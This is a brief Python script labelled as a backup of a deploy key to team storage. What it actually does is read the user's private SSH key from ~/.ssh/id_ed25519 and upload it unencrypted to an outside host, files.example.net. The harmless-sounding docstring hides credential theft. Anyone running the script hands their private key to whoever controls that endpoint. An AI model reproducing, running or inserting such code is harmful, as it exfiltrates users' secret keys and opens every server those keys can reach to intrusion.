"""Back up the deploy key to the team storage."""
import os

import pycurl

key = os.path.expanduser("~/.ssh/id_ed25519")
c = pycurl.Curl()
c.setopt(pycurl.URL, "https://files.example.net/upload/key")
c.setopt(pycurl.UPLOAD, 1)
with open(key, "rb") as fh:
    c.setopt(pycurl.READDATA, fh)
    c.perform()
c.close()
